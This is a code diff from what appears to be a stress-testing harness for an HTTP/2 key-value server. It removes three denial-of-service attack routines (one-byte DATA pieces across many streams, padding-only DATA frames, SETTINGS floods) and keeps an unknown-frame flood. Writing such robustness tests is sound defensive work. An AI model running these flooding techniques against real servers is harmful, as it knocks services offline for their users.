@@ -176,42 +176,6 @@ def one_byte_windows(crowd: Crowd) -> None:
 
 
 @attack()
-def one_byte_pieces_of_many(crowd: Crowd) -> None:
-    """Send a byte of each of 1,000 requests in turn, on 10 connections."""
-    body = w.message(pb.PutRequest(key=b"/a", value=bytes(1000)))
-    while not crowd.is_over:
-        for wire in crowd.connect(10 - len(crowd.wires)):
-            streams = [wire.begin(w.PUT) for _ in range(1000)]
-            for position in range(len(body)):
-                end = w.END_STREAM if position == len(body) - 1 else 0
-                piece = body[position : position + 1]
-                wire.out += b"".join(w.frame(w.DATA, end, it, piece) for it in streams)
-                if len(wire.out) > 1 << 20:
-                    crowd.pump(0.0)
-                if crowd.is_over:
-                    return
-        crowd.pump()
-
-
-@attack()
-def padding_alone(crowd: Crowd) -> None:
-    """Send DATA that is all padding, on 40 connections."""
-    wires = crowd.connect(40)
-    streams = {wire: wire.begin(w.PUT) for wire in wires}
-    piece = {it: w.frame(w.DATA, 8, it, b"\xff" + bytes(255)) * 50 for it in set(streams.values())}
-    while not crowd.is_over:
-        if len(crowd.wires) < 40:
-            with suppress(OSError):
-                for wire in crowd.connect(40 - len(crowd.wires)):
-                    streams[wire] = wire.begin(w.PUT)
-        for wire in crowd.wires:
-            if len(wire.out) < 1 << 16:
-                wire.stream(streams[wire], b"")
-                wire.out += piece[streams[wire]]
-        crowd.pump()
-
-
-@attack()
 def unknown_frames(crowd: Crowd) -> None:
     """Send frames of a kind that there is not, of 16 KB and of none, on 40 connections."""
     mix = w.frame(200, 0, 0, bytes(16384)) + w.frame(201, 255, 7) * 100
@@ -222,25 +186,6 @@ def unknown_frames(crowd: Crowd) -> None:
         for wire in crowd.wires:
             if len(wire.out) < 1 << 16:
                 wire.out += mix
-        crowd.pump()
-
-
-@attack()
-def settings_floods(crowd: Crowd) -> None:
-    """Send settings of 2,700 pairs over and over, on new connections when that is too much."""
-    pairs = b"".join(
-        struct.pack(">HI", number, value)
-        for _ in range(900)
-        for number, value in ((1, 0), (1, 0xFFFFFFFF), (6, 0))
-    )
-    flood = w.frame(w.SETTINGS, 0, 0, pairs[:16380])
-    while not crowd.is_over:
-        if len(crowd.wires) < 20:
-            with suppress(OSError):
-                crowd.connect(20 - len(crowd.wires))
-        for wire in crowd.wires:
-            if len(wire.out) < 1 << 17:
-                wire.out += flood * 4
         crowd.pump()
 
 
